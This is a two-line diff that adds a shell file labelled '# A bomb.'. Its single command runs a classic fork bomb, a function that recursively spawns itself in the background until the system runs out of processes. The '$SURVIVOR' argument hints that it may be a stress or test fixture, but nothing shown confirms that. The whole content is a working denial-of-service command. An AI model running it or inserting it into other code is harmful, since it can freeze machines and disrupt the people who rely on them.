@@ -1,0 +1,2 @@
+# A bomb.
+exec sh -c 'f() { f | f & }; f; sleep 3' "$SURVIVOR"
